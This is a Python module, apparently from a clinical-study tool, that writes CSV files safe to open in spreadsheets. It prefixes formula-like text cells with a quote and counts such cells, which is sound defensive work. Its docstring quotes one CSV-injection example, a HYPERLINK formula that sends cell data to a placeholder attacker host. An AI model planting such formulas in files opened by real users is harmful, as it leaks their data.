"""Text a spreadsheet program would run as a formula ("CSV injection"), and CSV files that
are safe to open in one.

A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before such a character) is read by Excel, LibreOffice and Google Sheets as a
formula: ``=HYPERLINK("http://evil.example/?"&A2, "open")`` sends data away when clicked.
mscohort's human-facing CSV files (analysis results, table downloads, scores, events and
protocol tables) therefore prefix such a value with a single quote, as OWASP recommends;
numbers (``-1.5``, ``+3``, ``-2e-3``) are not prefixed, so a negative number stays a number.

Files for programs keep every value exactly (SDTM datasets, ``mscohort export``): a registry
expects identifiers and terms as collected, and these files round-trip into the same study.
Their writers count the values that a spreadsheet would read as formulas
(:func:`formula_cells`) so the user is told to open them as text.

References
----------
OWASP. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

from pathlib import Path

import polars as pl

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_RE = r"^[=+\-@\t\r]"


def _formula_like(column: str) -> pl.Expr:
    text = pl.col(column)
    number = text.str.strip_chars().cast(pl.Float64, strict=False)
    return text.str.contains(_TRIGGER_RE) & ~number.is_finite().fill_null(False)


def neutralise(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text value that a spreadsheet would run as a formula prefixed by
    a single quote (``=1+2`` -> ``'=1+2``); numbers and non-text columns unchanged."""
    text = [c for c, t in frame.schema.items() if t == pl.String]
    return frame.with_columns(
        pl.when(_formula_like(c).fill_null(False)).then(pl.lit("'") + pl.col(c))
        .otherwise(pl.col(c)).alias(c) for c in text)


def safe_csv(frame: pl.DataFrame) -> str:
    """The CSV text of ``frame`` for people: formula-like text neutralised
    (:func:`neutralise`), list columns joined with ``"; "``."""
    lists = [c for c, t in frame.schema.items() if isinstance(t, pl.List)]
    flat = frame.with_columns(pl.col(c).cast(pl.List(pl.String)).list.join("; ")
                              for c in lists)
    return neutralise(flat).write_csv()


def write_safe_csv(frame: pl.DataFrame, path: str | Path) -> None:
    """Write :func:`safe_csv` of ``frame`` to ``path`` (UTF-8)."""
    Path(path).write_text(safe_csv(frame), encoding="utf-8")


def formula_cells(frame: pl.DataFrame) -> int:
    """How many text values of ``frame`` a spreadsheet would read as formulas."""
    text = [c for c, t in frame.schema.items() if t == pl.String]
    if not text or frame.height == 0:
        return 0
    return int(frame.select(pl.sum_horizontal(
        _formula_like(c).fill_null(False).sum() for c in text)).item())
